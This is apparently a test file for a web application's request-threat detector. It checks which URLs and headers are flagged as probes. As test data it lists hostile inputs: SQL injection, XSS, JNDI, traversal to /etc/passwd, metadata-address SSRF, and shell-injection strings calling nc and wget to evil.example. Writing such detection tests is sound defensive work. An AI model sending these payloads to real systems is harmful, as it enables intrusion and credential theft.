import type { ThreatIndicator } from '@aera/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { injectionPatterns } from './attack-patterns.ts';
import { type ObservedRequest, detectIndicators } from './detect-indicators.ts';

const ordinary: ObservedRequest = {
  method: 'GET',
  target: '/about',
  headers: {},
  ip: '203.0.113.7',
  route: 'static',
  status: 200,
  code: null,
  guessesTokens: false,
};
const indicators = (seen: Partial<ObservedRequest>) => detectIndicators({ ...ordinary, ...seen });

describe('the indicators of a response', () => {
  it.each<[string | null, number, string | null, ThreatIndicator[]]>([
    ['address-blocked', 403, null, ['blocked']],
    ['cross-site', 403, '/api/contacts', ['cross-site']],
    ['malformed-address', 400, null, ['malformed']],
    ['json-only', 415, '/api/contacts', ['malformed']],
    ['body-too-large', 413, '/api/contacts', ['oversize']],
    ['invalid-credentials', 401, '/api/auth/login', ['login-failed']],
    ['too-many-attempts', 429, '/api/admin/auth/login', ['rate-limited', 'login-failed']],
    ['too-many-attempts', 429, '/api/auth/pin', ['rate-limited', 'pin-failed']],
    ['rate-limited', 429, '/api/search', ['rate-limited']],
    ['invalid-code', 401, '/api/admin/auth/re-authenticate', ['otp-failed']],
    ['otp-replayed', 401, '/api/admin/auth/login', ['otp-replayed']],
    ['invalid-pin', 401, '/api/auth/pin', ['pin-failed']],
    ['role-forbidden', 403, '/api/admin/contacts', ['forbidden']],
    ['not-found', 404, null, ['not-found']],
    // A client with an expired session, or one that is asked for a code, is not suspicious.
    ['sign-in-required', 401, '/api/auth/me', []],
    ['step-up-required', 403, '/api/admin/contacts', []],
    ['invalid-request', 400, '/api/contacts', []],
    ['service-unavailable', 503, '/api/contacts', []],
  ])('%s (%i) at %s', (code, status, route, expected) =>
    expect(indicators({ code, status, route, target: route ?? '/somewhere' })).toEqual(expected),
  );

  it('include every submitted consent', () =>
    expect(
      indicators({
        method: 'POST',
        route: '/api/jurisdiction/consent',
        target: '/api/jurisdiction/consent',
        status: 201,
      }),
    ).toEqual(['consent-submitted']));
});

describe('a request caused by a page of another site', () => {
  const headers = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' };

  it('is marked as cross-site', () =>
    expect(indicators({ headers, target: '/.env', route: null, status: 404 })).toEqual([
      'not-found',
      'path-probe',
      'cross-site',
    ]));

  it('is ordinary without other indicators', () => expect(indicators({ headers })).toEqual([]));
});

describe('the indicators of a request target', () => {
  it.each([
    '/.env',
    '/.git/config',
    '/wp-login.php',
    '/WP-ADMIN/setup-config.php',
    '/%2e%65nv',
    '/backup.sql',
    '/phpmyadmin/index.php',
    '/actuator/env',
    '/api/.env',
    '/server.key',
    '/cgi-bin/luci',
    '/site/.DS_Store',
  ])('%s is a path probe', (target) => expect(indicators({ target })).toContain('path-probe'));

  it.each([
    '/../../etc/passwd',
    '/..%2f..%2fetc/passwd',
    '/%2e%2e/%2e%2e/package.json',
    '/%252e%252e%252fetc',
    '/..\\windows',
    '/download?file=../../secret',
  ])('%s is traversal', (target) => expect(indicators({ target })).toContain('traversal'));

  it.each([
    '/search?q=%27%20OR%20%271%27=%271',
    '/search?q=1+or+1=1',
    '/search?q=x%27%3B+DROP+TABLE+members--',
    '/search?q=1+UNION+ALL+SELECT+null',
    '/search?q=1/**/union/**/select/**/1',
    '/search?q=%27+union+select+null,+version()+--',
    '/search?q=x%27)union(select+1)',
    '/search?q=x%27+or+true+union+select+password+from+users',
    '/search?q=x%27+and+false+union+select+1,2',
    '/search?q=x%27+or+null+union+all+select+1',
    '/search?q=pg_sleep(10)',
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/search?q=%253Cscript%253E',
    '/search?q="><img src=x onerror=alert(1)>',
    '/search?next=javascript:alert(1)',
    '/search?q=${jndi:ldap://x}',
    '/search?q={{7*7}}',
    '/search?q=;cat+/etc/passwd',
    '/search?q=1%26+id+-a',
    '/search?q=x|ping+-c+10+203.0.113.9',
    '/search?q=x%26sleep+5',
    '/search?q=;sleep+$t',
    '/search?q=;ping+evil.example+-c+1',
    '/search?q=|cat+config.php',
    '/search?q=|cat+src/config.php',
    '/search?q=;nc+-e+/x',
    '/search?q=;nc+evil.example+4444',
    '/search?q=x%60wget+evil.example%60',
    '/search?url=http://169.254.169.254/latest',
    '/search?url=file:///etc/hosts',
    '/search?__proto__[admin]=1',
    '/search?x=%0d%0aSet-Cookie:+a=b',
    '/search?x=%00',
  ])('%s is an injection probe', (target) => expect(indicators({ target })).toContain('injection-probe'));
});

describe('the indicators of header fields', () => {
  it.each<[ObservedRequest['headers'], ThreatIndicator[]]>([
    [{ 'user-agent': '${jndi:ldap://203.0.113.9/a}' }, ['injection-probe']],
    [{ referer: 'https://x.example/<script>alert(1)</script>' }, ['injection-probe']],
    [{ 'x-aera-identity': 'eyJhbGciOiJub25lIn0.e30.' }, ['forged-token']],
    [{ authorization: 'Bearer abc' }, ['forged-token']],
    [{ cookie: "aera_session=' or 1=1" }, ['forged-token']],
    [{ 'x-original-url': '/internal/sessions/resolve' }, ['forged-header']],
    [{ 'x-forwarded-for': '127.0.0.1' }, ['forged-header']],
    [{ 'x-forwarded-for': '198.51.100.1, 10.0.0.1' }, []],
    [{ cookie: `aera_session=${'A1_-'.repeat(10)}abc; other=1' or 1=1` }, []],
    [{ cookie: 'aera_session=' }, []],
    [{ authorization: 'Basic c3RhZ2luZzpvbmx5' }, []],
  ])('%j', (headers, expected) => expect(indicators({ headers })).toEqual(expected));
});

describe('an unknown session token', () => {
  it('is forged once its network has sent many', () =>
    expect(
      indicators({ guessesTokens: true, headers: { cookie: `aera_session=${'A'.repeat(43)}` } }),
    ).toEqual(['forged-token']));
});

describe('ordinary input', () => {
  it.each([
    "O'Brien or trust",
    "the trustees' or beneficiaries' rights",
    "'settlor' or 'grantor': which?",
    'what is 50% of a trust & who gets it?',
    'union of two trusts; select the best',
    'how do I drop out (and when)?',
    'fee schedule = 1 or 2 years?',
    'https://aera.example/how?x=1#top',
    'C:\\Users\\me and D:\\',
    'is it true... or not..',
    'Where is the script? <3',
    'id 4711; name: Ada',
    'European Union Select Committee',
    'European Union Select Committee, report from 2016',
    'passport & id card',
    'passport; id card',
    'durham; nc 27701',
    'Durham; NC - 27701. Thanks',
    'dog & cat food. Which?',
    'call me; ping me at home.',
    'Is it true? Union select committee',
    'treuhänder oder “trustee” – was ist der Unterschied?',
  ])('is no probe: %s', (words) => {
    expect(indicators({ target: `/api/search/suggestions?q=${encodeURIComponent(words)}` })).toEqual([]);
    expect(indicators({ target: `/search?${new URLSearchParams({ q: words })}` })).toEqual([]);
  });
});

describe('the patterns', () => {
  it('are linear in the input length', () => {
    for (const { source } of injectionPatterns) {
      const outsideClasses = source.replace(/\\./g, '_').replace(/\[[^\]]*\]/g, '_');
      expect(outsideClasses).not.toMatch(/[*+]|\{\d+,\}/);
    }
  });

  it('accept any text of any length', () => {
    const pieces = fc.constantFrom(
      "' or ",
      '((((',
      '      ',
      '%',
      '%25',
      '<',
      '${',
      '..',
      '/',
      'union ',
      'a',
      '=',
      '%00',
    );
    const hostile = fc.tuple(pieces, pieces, fc.integer({ min: 1, max: 3_000 }));
    fc.assert(
      fc.property(hostile, ([one, other, times]) => {
        expect(indicators({ target: `/${(one + other).repeat(times)}` })).toBeInstanceOf(Array);
      }),
      { numRuns: 50 },
    );
  });
});
